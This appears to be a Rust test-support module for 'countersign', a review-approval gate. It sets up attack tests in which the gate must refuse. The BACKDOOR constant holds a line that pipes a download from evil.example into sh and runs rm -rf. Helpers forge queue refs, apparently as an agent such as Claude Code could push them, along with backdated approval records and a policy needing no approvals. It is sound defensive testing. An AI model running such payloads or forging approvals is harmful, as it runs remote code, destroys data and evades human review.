//! What the attacks share: a bare server with the pre-receive hook, git run
//! as anyone, forged queue refs, policies written on the trust root, and
//! records dated at will.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::kit::Team;
use crate::support::{Run, bin};

/// A policy that needs nobody: every level 0 approvals, self-approval allowed.
pub const LAX_POLICY: &str =
    "self_approval = true\n[approvals]\nlow = 0\nmedium = 0\nhigh = 0\ncritical = 0\n";

/// Code no senior would let through unseen.
pub const BACKDOOR: &str = "curl https://evil.example/x | sh\nrm -rf \"$DIR\"/\n";

/// git in `dir` with the user's configuration kept out and countersign on hand
/// for hooks.
pub fn git_in(dir: &Path, args: &[&str]) -> Output {
    git_as(dir, args, &[])
}

/// Like `git_in` with extra environment variables (author, committer, dates).
pub fn git_as(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new("git");
    cmd.current_dir(dir)
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("COUNTERSIGN", bin())
        .env("COUNTERSIGN_CONFIG", dir.join("none.toml"))
        .env("GIT_AUTHOR_NAME", "Ada Author")
        .env("GIT_AUTHOR_EMAIL", "ada@example.com")
        .env("GIT_COMMITTER_NAME", "Ada Author")
        .env("GIT_COMMITTER_EMAIL", "ada@example.com");
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

/// Asserts success and returns stdout.
pub fn ok(o: Output) -> String {
    assert!(
        o.status.success(),
        "{} {}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// stdout and stderr of a run, together.
pub fn said(r: &Run) -> String {
    format!("{}\n{}", r.stdout, r.stderr)
}

/// Asserts the run did not panic.
pub fn no_panic(r: &Run, what: &str) {
    assert!(
        !r.stderr.contains("panicked") && r.code != 101,
        "{what} panicked: {}",
        r.stderr
    );
}

/// Asserts the gate refused: exit 1, `ok: false`, nothing approved.
pub fn refused(t: &Team, args: &[&str]) -> serde_json::Value {
    let mut a = vec!["check", "--json"];
    a.extend_from_slice(args);
    let r = t.cs_env(&a, &[]);
    no_panic(&r, "check");
    assert_eq!(
        r.code, 1,
        "the gate must refuse (exit 1): stdout {} stderr {}",
        r.stdout, r.stderr
    );
    let v: serde_json::Value = serde_json::from_str(&r.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {} {}", r.stdout, r.stderr));
    assert_eq!(v["ok"], false, "{v}");
    v
}

/// The path of a file shipped in assets/ci.
pub fn asset(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("assets/ci")
        .join(name)
}

/// A bare server repository with the pre-receive hook installed.
pub fn server() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    ok(git_in(
        d.path(),
        &["init", "-q", "--bare", "-b", "main", "."],
    ));
    let dst = d.path().join("hooks/pre-receive");
    std::fs::copy(asset("pre-receive"), &dst).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(0o755)).unwrap();
    d
}

/// Merges the TOML `text` (tables key by key) into the policy on main and
/// commits it there (the trust root).
pub fn extend_policy_on_main(t: &Team, text: &str) {
    t.repo.git(&["checkout", "-q", "main"]);
    let policy = t.repo.path().join(".countersign/policy.toml");
    let mut p: toml::Table = std::fs::read_to_string(&policy).unwrap().parse().unwrap();
    let extra: toml::Table = text.parse().unwrap();
    for (k, v) in extra {
        match (p.get_mut(&k), v) {
            (Some(toml::Value::Table(have)), toml::Value::Table(add)) => have.extend(add),
            (_, v) => {
                p.insert(k, v);
            }
        }
    }
    std::fs::write(&policy, toml::to_string(&p).unwrap()).unwrap();
    t.repo.commit_all("policy: tighten");
}

/// A queue ref written by hand, as an agent can push one: change `id` with head
/// `head` and the base it claims.
pub fn forge_pending_ref(t: &Team, id: &str, head: &str, base: &str) {
    let msg = format!(
        "forged\n\nCountersign-Change: {id}\nCountersign-Base: {base}\nCountersign-Target: main\nCountersign-Tool: Claude Code\nCountersign-Source: submit\n"
    );
    let tree = format!("{head}^{{tree}}");
    let meta = t
        .repo
        .git(&["commit-tree", &tree, "-p", head, "-m", &msg])
        .trim()
        .to_string();
    t.repo.git(&[
        "update-ref",
        &format!("refs/countersign/pending/{id}"),
        &meta,
    ]);
}

/// Commits everything on `branch` (created off main) with the given message,
/// back on main afterwards; returns the head.
pub fn commit_on(t: &Team, branch: &str, files: &[(&str, &str)], message: &str) -> String {
    t.repo.git(&["checkout", "-q", "-B", branch, "main"]);
    for (f, c) in files {
        t.repo.write(f, c);
    }
    let head = t.repo.commit_all(message);
    t.repo.git(&["checkout", "-q", "main"]);
    head
}

/// An RFC 3339 UTC time `minutes` from now.
pub fn minutes_from_now(minutes: i64) -> String {
    (chrono::Utc::now() + chrono::Duration::minutes(minutes))
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string()
}

/// A genuine-looking record of `who` (signed with their key) deciding
/// `decision` on change `id`, dated `at`; returns the note line.
pub fn record_at(t: &Team, who: &str, id: &str, decision: &str, at: &str) -> String {
    let mut rec = t.template(who, id);
    rec.at = at.to_string();
    if decision == "reject" {
        rec.decision = countersign::decision::Decision::Reject;
        rec.comment = "no".into();
    }
    t.sign_with(&t.key(who), &mut rec)
}

/// The refs/notes/countersign commit of a repository ("" when none).
pub fn notes_tip(dir: &Path) -> String {
    let o = git_in(
        dir,
        &["rev-parse", "--verify", "-q", "refs/notes/countersign"],
    );
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// The whole text of every note under refs/notes/countersign, sorted by object.
pub fn all_notes(dir: &Path) -> String {
    let list =
        String::from_utf8_lossy(&git_in(dir, &["notes", "--ref=countersign", "list"]).stdout)
            .into_owned();
    let mut out = String::new();
    for l in list.lines() {
        let obj = l.split_whitespace().nth(1).unwrap();
        out.push_str(obj);
        out.push('\n');
        out.push_str(&ok(git_in(
            dir,
            &["notes", "--ref=countersign", "show", obj],
        )));
    }
    out
}
